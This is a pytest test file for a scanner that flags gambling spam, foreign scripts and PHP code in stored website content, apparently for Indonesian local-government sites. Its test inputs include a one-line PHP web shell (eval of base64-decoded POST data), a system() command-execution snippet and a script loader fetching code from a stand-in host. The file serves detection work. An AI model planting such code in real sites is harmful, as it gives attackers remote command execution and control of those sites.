"""Stored content judged by the page analysis plus the database guard's own checks (no database needed)."""

from __future__ import annotations

import pytest

from jagaweb.guard.choices import Severity, Verdict
from jagaweb.guard.database.content import Content, analyse_content
from jagaweb.guard.database.findings import severity_for
from jagaweb.guard.database.kinds import Exposure

OWN = ["diskominfo.contohkab.go.id"]

CLEAN = {
    "news": Content(title="Bupati Resmikan Jembatan Desa", body="<p>Jembatan sepanjang 45 meter diresmikan.</p>"
                    '<iframe src="https://www.youtube.com/embed/abc"></iframe><a href="/galeri/">Galeri</a>',
                    slug="bupati-resmikan-jembatan-desa"),
    "slot waktu": Content(title="Pilih Slot Waktu Vaksinasi", slug="pilih-slot-waktu-vaksinasi",
                          body="<p>Warga dapat memilih slot waktu layanan di puskesmas. Setiap slot melayani 25 "
                               "orang.</p>"),
    "awareness": Content(title="Waspada Bahaya Judi Online", slug="waspada-bahaya-judi-online",
                         body="<p>Judi online adalah tindak pidana. Polisi menangkap tersangka pengelola situs judi "
                              "dan Kementerian memblokir ribuan situs judi online. Judi slot menjerat keluarga.</p>"),
    "analytics": Content(body='<script async src="https://www.googletagmanager.com/gtag/js?id=G-1"></script>'
                              "<script>gtag('config', 'G-1');</script>"),
    "maps": Content(body='<iframe src="https://www.google.com/maps/embed?pb=1"></iframe>'),
    "other office": Content(body='<iframe src="https://ppid.jatengprov.go.id/widget"></iframe>'),
    "plain option": Content(body="j F Y"),
    "own menu link": Content(title="Beranda", addresses=("https://diskominfo.contohkab.go.id/",)),
}


@pytest.mark.parametrize("name", sorted(CLEAN))
def test_clean_content_is_clean(name: str) -> None:
    verdict = analyse_content(CLEAN[name], site_hosts=OWN)
    assert verdict.verdict == Verdict.CLEAN, verdict.to_dict()


def test_spam_post_is_judol() -> None:
    spam = Content(title="Slot Gacor Maxwin Hari Ini", slug="slot-gacor-maxwin-hari-ini",
                   body='<p>Situs slot gacor, rtp live, bonus new member.</p><a href="https://x.invalid/">daftar</a>')
    verdict = analyse_content(spam, site_hosts=OWN)
    assert verdict.verdict == Verdict.JUDOL
    assert {"judol.title", "judol.text", "judol.slugs"} <= set(verdict.codes)


def test_script_from_another_site_is_suspicious() -> None:
    content = Content(body='<p>Rapat koordinasi.</p><script src="https://js.counter.invalid/c.js"></script>')
    verdict = analyse_content(content, site_hosts=OWN)
    assert verdict.verdict == Verdict.SUSPICIOUS
    assert verdict.codes == ["db.foreign_script"]
    assert verdict.reasons[0].evidence == ("counter.invalid",)


def test_own_script_is_not_foreign() -> None:
    content = Content(body='<script src="https://diskominfo.contohkab.go.id/wp-content/themes/x/app.js"></script>')
    assert analyse_content(content, site_hosts=OWN).verdict == Verdict.CLEAN


def test_inline_loader_naming_another_site() -> None:
    code = "<script>var s=document.createElement('script');s.src='https://loader.invalid/x.js';" \
           "document.head.appendChild(s);</script>"
    verdict = analyse_content(Content(body=code), site_hosts=OWN)
    assert "db.script_address" in verdict.codes
    assert verdict.verdict == Verdict.SUSPICIOUS


def test_visible_frame_from_another_site() -> None:
    verdict = analyse_content(Content(body='<iframe src="https://iklan.invalid/banner"></iframe>'), site_hosts=OWN)
    assert verdict.codes == ["db.foreign_frame"]


def test_gambling_address_value() -> None:
    verdict = analyse_content(Content(title="Info", addresses=("https://maxwin-slot.invalid/daftar",)), site_hosts=OWN)
    assert verdict.verdict == Verdict.JUDOL
    assert "db.gambling_address" in verdict.codes


def test_php_backdoor_in_a_value_goes_through_the_file_rules() -> None:
    verdict = analyse_content(Content(code="@eval(base64_decode($_POST['k']));"), name="wp_snippets-3")
    assert "db.php_code" in verdict.codes
    assert verdict.score >= 70


def test_php_in_ordinary_text_is_noticed() -> None:
    body = "<p>Info</p><?php if(isset($_REQUEST['c'])){ system($_REQUEST['c']); } ?>"
    assert "db.php_code" in analyse_content(Content(body=body)).codes


@pytest.mark.parametrize(("verdict", "score", "exposure", "expected"), [
    (Verdict.JUDOL, 60, Exposure.SITE_WIDE, Severity.CRITICAL),
    (Verdict.JUDOL, 60, Exposure.PUBLIC, Severity.HIGH),
    (Verdict.JUDOL, 60, Exposure.HIDDEN, Severity.MEDIUM),
    (Verdict.JUDOL, 60, Exposure.QUEUED, Severity.LOW),
    (Verdict.SUSPICIOUS, 30, Exposure.PUBLIC, Severity.MEDIUM),
    (Verdict.SUSPICIOUS, 20, Exposure.HIDDEN, Severity.INFO),
    (Verdict.SUSPICIOUS, 70, Exposure.SITE_WIDE, Severity.CRITICAL),
])
def test_severity(verdict: Verdict, score: int, exposure: Exposure, expected: Severity) -> None:
    assert severity_for(verdict, score, exposure) == expected
